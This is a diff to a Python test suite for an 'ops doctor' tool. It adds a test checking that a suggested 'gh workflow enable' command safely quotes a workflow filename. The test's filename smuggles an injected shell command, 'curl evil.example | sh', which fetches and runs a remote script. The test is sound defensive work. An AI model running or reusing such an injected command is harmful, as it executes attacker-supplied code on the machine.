@@ -1,6 +1,7 @@
 """`ops doctor`: right answers in a world with everything right, and one wrong answer for each fault."""
 
 import json
+import shlex
 import subprocess
 import time
 from collections.abc import Iterator
@@ -222,6 +223,16 @@ def test_job_with_a_read_only_token_checks_no_service(world: Bakery) -> None:
     rows = json.loads(str(jobs.needs["report-live"]["outputs"]["results"]))  # type: ignore[index]
     assert {row["subject"] for row in rows} == {"live"}
     assert {row["answer"] for row in rows} == {"right"}
+
+
+def test_command_quotes_the_name_of_a_file(world: Bakery) -> None:
+    """Anyone who can push a branch can name a workflow."""
+    world.write(".github/workflows/a; curl evil.example | sh #.yml", "on: push\njobs: {}\n")
+    world.sandbox.github.disable_workflow(".github/workflows/a; curl evil.example | sh #.yml", "disabled_manually")
+
+    (found,) = [each for each in world.results() if each["id"] == "workflows-enabled"]
+
+    assert shlex.split(found["command"]) == ["gh", "workflow", "enable", "a; curl evil.example | sh #.yml"]
 
 
 def test_results_of_many_services_fit_one_variable(world: Bakery) -> None:
